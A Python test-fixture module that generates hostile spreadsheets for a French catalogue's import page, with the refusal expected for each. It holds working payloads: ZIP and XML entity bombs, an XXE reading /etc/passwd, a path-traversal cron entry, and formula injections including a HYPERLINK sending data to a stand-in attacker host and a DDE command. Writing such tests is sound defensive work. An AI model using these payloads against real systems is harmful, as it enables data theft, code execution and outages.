"""Hostile spreadsheets, generated at test time (no binary is committed).

Each entry is a file a curator — or someone who stole a curator's session — could upload
to the admin import, with what the catalogue must do with it: refuse it with a French
message that names the problem (`message`, a regular expression), or, for the formula
files, import the text inert. `tests/test_hostile_files.py` posts each one through the real
import page. docs/reliability.md (« Fichiers hostiles ») lists them.
"""

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import tablib

from catalogue.sheets.formats import ODS, XLSX

REFUSED = "refused"
IMPORTED_INERT = "imported inert"  # formulas: stored as typed, neutralised by every export
IMPORTED = "imported"  # odd but harmless: read like any file
HEADERS = ["Titre", "Territoire", "Année de début"]
HEADER_LINE = "Titre;Territoire;Année de début\n"
MB = 1024 * 1024
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


@dataclass(frozen=True)
class HostileFile:
    name: str
    filename: str
    build: Callable[[], bytes]
    message: str = ""  # a regular expression the page must show (refusals)
    expect: str = REFUSED
    title: str = ""  # for IMPORTED_INERT: the title stored, as typed


def csv_bytes(text: str) -> bytes:
    return text.encode("utf-8")


def valid_rows(count=1):
    return [[f"Alliance {n}", "commune-59350", 2020] for n in range(count)]


def xlsx(rows=None, headers=HEADERS) -> bytes:
    return XLSX().export_data(tablib.Dataset(*(rows or valid_rows()), headers=list(headers)))


def ods(rows=None, headers=HEADERS) -> bytes:
    return ODS().export_data(tablib.Dataset(*(rows or valid_rows()), headers=list(headers)))


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zip_of(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_members(data: bytes, **changes) -> bytes:
    """A copy of an XLSX or ODS with some members replaced (None removes one)."""
    members = members_of(data)
    for name, content in changes.items():
        name = name.replace("__", "/").replace("_DOT_", ".")
        if content is None:
            members.pop(name, None)
        else:
            members[name] = content
    return zip_of(members)


def replace_member(data: bytes, name: str, content: bytes | None) -> bytes:
    members = members_of(data)
    if content is None:
        del members[name]
    else:
        members[name] = content
    return zip_of(members)


def streamed_bomb(name: str, size: int, head: bytes, unit: bytes, tail: bytes, base=None):
    """A ZIP holding `name` inflating to about `size` bytes, built without holding it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for member, content in (base or {}).items():
            archive.writestr(member, content)
        with archive.open(name, "w", force_zip64=True) as stream:
            stream.write(head)
            chunk = unit * (MB // len(unit))
            for _index in range(size // len(chunk)):
                stream.write(chunk)
            stream.write(tail)
    return buffer.getvalue()


def declare_size(data: bytes, name: str, size: int) -> bytes:
    """The same ZIP, whose directory (and local header) declare `name` unpacks to `size`."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, offset, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        start = 0
        while (start := raw.find(signature, start)) >= 0:
            if raw[start + name_at : start + name_at + len(encoded)] == encoded:
                raw[start + offset : start + offset + 4] = struct.pack("<I", size)
            start += 4
    return bytes(raw)


def xlsx_sheet_name() -> str:
    return next(n for n in members_of(xlsx()) if n.startswith("xl/worksheets/sheet"))


# Builders.


def csv_60000_columns():
    return csv_bytes(";".join(f"colonne{n}" for n in range(60_000)) + "\nx\n")


def csv_200_columns():
    headers = HEADERS + [f"Colonne {n}" for n in range(197)]
    return csv_bytes(";".join(headers) + "\n" + ";".join(["x"] * 200) + "\n")


def csv_huge_field():
    return csv_bytes(HEADER_LINE + "x" * (9 * MB) + ";commune-59350;2020\n")


def csv_unclosed_quote():
    return csv_bytes(HEADER_LINE + '"' + "y" * (5 * MB) + "\n" * 1000)


def csv_20001_rows():
    return csv_bytes(HEADER_LINE + "Alliance;commune-59350;2020\n" * 20_001)


def csv_cells_cap():
    # 100 columns × 10,001 rows: within the row and column caps, above the cell cap.
    headers = HEADERS + [f"C{n}" for n in range(97)]
    return csv_bytes(";".join(headers) + "\n" + (";".join(["x"] * 100) + "\n") * 10_001)


def csv_over_size_cap():
    return csv_bytes(HEADER_LINE + ("Alliance;commune-59350;2020\n" * (10 * MB // 27 + 10)))


def csv_mixed_line_endings():
    return b"Titre;Territoire;Ann\xc3\xa9e de d\xc3\xa9but\r\nA;commune-59350;2020\rB\x0b;x;1\n"


def xlsx_zip_bomb():
    base = members_of(xlsx())
    return streamed_bomb(
        "xl/sharedStrings.xml", 300 * MB, b'<sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main">', b"<si><t>aaaaaaaaaaaaaaaa</t></si>", b"</sst>", base,
    )  # fmt: skip


def xlsx_under_ratio_over_absolute():
    # Like the 9.9 MB XLSX that unpacked to 902 MB: its ratio (about 40) passes the old rule.
    noise = random.Random(0).randbytes(5 * MB)  # incompressible: 5 MB in the file too
    data = with_members(xlsx(), xl__media__padding_DOT_bin=noise)
    return declare_size(data, "xl/media/padding.bin", 210 * MB)


def xlsx_lying_small_size():
    # The directory says 100 bytes; the worksheet really inflates to 200 MB.
    sheet = xlsx_sheet_name()
    base = {n: c for n, c in members_of(xlsx()).items() if n != sheet}
    data = streamed_bomb(sheet, 200 * MB, b"<worksheet>", b"<row/>", b"</worksheet>", base)
    return declare_size(data, sheet, 100)


def xlsx_million_rows():
    sheet = xlsx_sheet_name()
    original = members_of(xlsx())[sheet].decode()
    start = original.index("<sheetData>") + len("<sheetData>")
    end = original.index("</sheetData>")
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    content = original[:start] + original[start:end].split("</row>", 1)[0] + "</row>" + far
    content += original[end:]
    content = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', content, count=1)
    return replace_member(xlsx(), sheet, content.encode())


def xlsx_many_shared_strings():
    # 1,000,101 shared strings (18 MB unpacked, well under every size rule).
    strings = b"<si><t>a</t></si>" * 1_000_101
    return xlsx_with_shared_strings(SST_ROOT.replace(b"<si><t>BOMB</t></si>", strings))


def xlsx_billionth_row():
    # Beyond Excel's 1,048,576 lines, which openpyxl does not check.
    return (
        xlsx_million_rows()
        .replace(b'r="1048576"', b'r="1000000000"')
        .replace(b'r="A1048576"', b'r="A1000000000"')
    )


def xlsx_far_column():
    sheet = xlsx_sheet_name()
    content = members_of(xlsx())[sheet].decode()
    far = '<c r="XFD2" t="inlineStr"><is><t>loin</t></is></c></row>'
    content = content.replace("</row>", "</row>", 1)
    head, rest = content.split("</row>", 1)
    rest = rest.replace("</row>", far, 1)
    return replace_member(xlsx(), sheet, (head + "</row>" + rest).encode())


def xml_bomb(root: bytes) -> bytes:
    entities = b'<!ENTITY a0 "hahahahahahahahahaha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE r [' + entities + b"]>" + root.replace(b"BOMB", b"&a9;")


def xxe(root: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + root.replace(b"BOMB", b"&e;")
    )


ODS_ROOT = (
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    b' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
    b"<office:spreadsheet><table:table><table:table-row><table:table-cell><text:p>BOMB"
    b"</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
    b"</office:body></office:document-content>"
)
SST_ROOT = (
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<si><t>BOMB</t></si></sst>"
)


def xlsx_with_shared_strings(content: bytes) -> bytes:
    # Every workbook tablib writes has inline strings: point one cell at a shared string.
    data = with_members(xlsx(), xl__sharedStrings_DOT_xml=content)
    members = members_of(data)
    types = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    return zip_of({**members, "[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels})


def ods_repeated_rows():
    content = members_of(ods())["content.xml"]
    row = b'<table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
    row += b'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    content = content.replace(b"</table:table>", row + b"</table:table>", 1)
    return replace_member(ods(), "content.xml", content)


def ods_repeated_columns():
    content = members_of(ods())["content.xml"]
    cell = b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
    cell += b"<text:p>x</text:p></table:table-cell></table:table-row>"
    content = content.replace(b"</table:table-row>", cell, 1)
    return replace_member(ods(), "content.xml", content)


def ods_huge_content():
    base = {n: c for n, c in members_of(ods()).items() if n != "content.xml"}
    return streamed_bomb(
        "content.xml", 260 * MB, ODS_ROOT.split(b"BOMB")[0], b"<text:span>a</text:span>",
        ODS_ROOT.split(b"BOMB")[1], base,
    )  # fmt: skip


def zip_many_members():
    members = members_of(xlsx())
    members.update({f"xl/vide/{n}.xml": b"" for n in range(5000)})
    return zip_of(members, zipfile.ZIP_STORED)


def xlsm_macro():
    members = members_of(xlsx())
    members["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 512
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    return zip_of(members)


def xlsx_missing_sheet():
    return replace_member(xlsx(), xlsx_sheet_name(), None)


def xlsx_long_sheet_name():
    members = members_of(xlsx())
    workbook = members["xl/workbook.xml"]
    start = workbook.index(b'name="', workbook.index(b"<sheet ")) + len(b'name="')
    end = workbook.index(b'"', start)
    members["xl/workbook.xml"] = workbook[:start] + b"N" * 100_000 + workbook[end:]
    return zip_of(members)


def nested_zip():
    return zip_of({"classeur.xlsx": xlsx()})


def traversal_name():
    members = members_of(xlsx())
    members["../../etc/cron.d/evil"] = b"* * * * * root sh"
    return zip_of(members)


def formula_csv(title: str) -> Callable[[], bytes]:
    quoted = '"' + title.replace('"', '""') + '"'
    return lambda: csv_bytes(HEADER_LINE + f"{quoted};commune-59350;2020\n")


HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")'
DDE = "=cmd|' /C calc'!A0"

# fmt: off
CORPUS = [
    # CSV: emptiness and encodings.
    HostileFile("csv-vide", "vide.csv", lambda: b"", "Le fichier soumis est vide"),
    HostileFile("csv-bom-seul", "bom.csv", lambda: b"\xef\xbb\xbf", "Le fichier est vide"),
    HostileFile("csv-en-tetes-seuls", "entetes.csv", lambda: csv_bytes(HEADER_LINE),
                "ne contient que la ligne d'en-têtes"),
    HostileFile("csv-octets-nuls", "nul.csv",
                lambda: csv_bytes(HEADER_LINE + "Alli\x00ance;commune-59350;2020\n"),
                "octets nuls"),
    HostileFile("csv-utf16-sans-bom", "utf16.csv",
                lambda: (HEADER_LINE + "Alliance;commune-59350;2020\n").encode("utf-16-le"),
                "UTF-16 sans BOM"),
    HostileFile("csv-utf8-invalide", "invalide.csv",
                lambda: csv_bytes(HEADER_LINE) + b"Alliance \xc3\x28\x81;commune-59350;2020\n",
                "ni en UTF-8 ni en Windows-1252"),
    HostileFile("csv-binaire", "image.csv", lambda: PNG, "octets nuls"),
    # CSV: control characters.
    HostileFile("csv-controle-cellule", "controle.csv",
                lambda: csv_bytes(HEADER_LINE + "Alliance\x1b[31m;commune-59350;2020\n"),
                r"Ligne 2, colonne 1 : .*caractère de contrôle interdit \(U\+001B\)"),
    HostileFile("csv-controle-en-tete", "entete.csv",
                lambda: csv_bytes("Titre\x07;Territoire;Année de début\nA;commune-59350;2020\n"),
                r"Ligne 1, colonne 1 : .*caractère de contrôle interdit \(U\+0007\)"),
    HostileFile("csv-fins-de-ligne-melangees", "fins.csv", csv_mixed_line_endings,
                r"Ligne 3, colonne 1 : .*caractère de contrôle interdit \(U\+000B\)"),
    # CSV: size and shape.
    HostileFile("csv-60000-colonnes", "large.csv", csv_60000_columns,
                "60000 colonnes ; la limite est de 100"),
    HostileFile("csv-200-colonnes", "colonnes.csv", csv_200_columns,
                "200 colonnes ; la limite est de 100"),
    HostileFile("csv-champ-de-9-mo", "champ.csv", csv_huge_field,
                "Ligne 2 : une cellule dépasse 100000 caractères"),
    HostileFile("csv-guillemet-jamais-ferme", "guillemet.csv", csv_unclosed_quote,
                "Ligne 2 : une cellule dépasse 100000 caractères"),
    HostileFile("csv-20001-lignes", "lignes.csv", csv_20001_rows, "plus de 20000 lignes"),
    HostileFile("csv-1000100-cellules", "cellules.csv", csv_cells_cap,
                r"plus de 1000000 cellules \(lignes × colonnes\)"),
    HostileFile("csv-trop-gros", "gros.csv", csv_over_size_cap, "la limite est de 10 Mo"),
    HostileFile("csv-en-tetes-en-double", "double.csv",
                lambda: csv_bytes("Titre;titre;Territoire;Année de début\nA;B;lille;2020\n"),
                "Colonne\\(s\\) en double : Titre"),
    HostileFile("csv-en-tetes-inconnus", "inconnu.csv",
                lambda: csv_bytes("Titre;Territoire;Année de début;Mot de passe\nA;lille;2020;x\n"),
                "Colonne\\(s\\) inconnue\\(s\\) : « Mot de passe »"),
    # Formulas: imported as text, neutralised by every export.
    HostileFile("csv-formule-hyperlink", "hyperlien.csv", formula_csv(HYPERLINK),
                expect=IMPORTED_INERT, title=HYPERLINK),
    HostileFile("csv-formule-dde", "dde.csv", formula_csv(DDE),
                expect=IMPORTED_INERT, title=DDE),
    # ZIP archives.
    HostileFile("xlsx-vide", "vide.xlsx", lambda: b"", "Le fichier soumis est vide"),
    HostileFile("xlsx-tronque", "tronque.xlsx", lambda: xlsx()[: len(xlsx()) // 2],
                "archive illisible ou tronquée"),
    HostileFile("image-renommee-xlsx", "photo.xlsx", lambda: PNG, "archive illisible"),
    HostileFile("zip-dans-un-zip", "imbrique.xlsx", nested_zip,
                r"il y manque « \[Content_Types\].xml »"),
    HostileFile("zip-chemin-remontant", "traverse.xlsx", traversal_name,
                "chemin interne suspect"),
    HostileFile("zip-5000-membres", "membres.xlsx", zip_many_members,
                "5\\d{3} fichiers internes ; la limite est de 1000"),
    HostileFile("xlsx-bombe-sharedstrings", "bombe.xlsx", xlsx_zip_bomb,
                "plus de 200 Mo .*refusé par précaution"),
    HostileFile("xlsx-210-mo-sous-le-ratio", "gonfle.xlsx", xlsx_under_ratio_over_absolute,
                "plus de 200 Mo .*« xl/media/padding.bin » seul : 210 Mo"),
    HostileFile("xlsx-taille-declaree-mensongere", "menteur.xlsx", xlsx_lying_small_size,
                "classeur XLSX est corrompu"),
    HostileFile("xlsx-macros", "macros.xlsx", xlsm_macro, "contient des macros"),
    HostileFile("xlsx-feuille-absente", "sans-feuille.xlsx", xlsx_missing_sheet,
                "ne contient aucune feuille"),
    # XLSX content.
    HostileFile("xlsx-million-de-lignes", "million.xlsx", xlsx_million_rows,
                "plus de 20000 lignes"),
    HostileFile("xlsx-million-de-textes-partages", "textes.xlsx", xlsx_many_shared_strings,
                "plus de 1000100 textes partagés"),
    HostileFile("xlsx-ligne-un-milliard", "milliard.xlsx", xlsx_billionth_row,
                "plus de 20000 lignes"),
    HostileFile("xlsx-colonne-xfd", "loin.xlsx", xlsx_far_column,
                "Ligne 2 : des cellules sont remplies au-delà de la colonne 100"),
    HostileFile("xlsx-200-colonnes", "large.xlsx",
                lambda: xlsx([["x"] * 200], HEADERS + [f"C{n}" for n in range(197)]),
                "200 colonnes ; la limite est de 100"),
    HostileFile("xlsx-milliard-de-rires", "rires.xlsx",
                lambda: xlsx_with_shared_strings(xml_bomb(SST_ROOT)),
                "déclarations XML interdites"),
    HostileFile("xlsx-entite-externe", "xxe.xlsx", lambda: xlsx_with_shared_strings(xxe(SST_ROOT)),
                "déclarations XML interdites"),
    HostileFile("xlsx-nom-de-feuille-immense", "feuille.xlsx", xlsx_long_sheet_name,
                expect=IMPORTED, title="Alliance 0"),
    # ODS.
    HostileFile("ods-milliard-de-rires", "rires.ods",
                lambda: replace_member(ods(), "content.xml", xml_bomb(ODS_ROOT)),
                "déclarations XML interdites"),
    HostileFile("ods-entite-externe", "xxe.ods",
                lambda: replace_member(ods(), "content.xml", xxe(ODS_ROOT)),
                "déclarations XML interdites"),
    HostileFile("ods-content-xml-de-260-mo", "enorme.ods", ods_huge_content,
                "plus de 200 Mo .*refusé par précaution"),
    HostileFile("ods-ligne-repetee-un-milliard-de-fois", "repete.ods", ods_repeated_rows,
                "plus de 20000 lignes"),
    HostileFile("ods-cellule-repetee-16384-fois", "colonnes.ods", ods_repeated_columns,
                "1003 colonnes ; la limite est de 100"),
    HostileFile("ods-sans-content-xml", "vide.ods",
                lambda: replace_member(ods(), "content.xml", None),
                "il y manque « content.xml »"),
]
# fmt: on
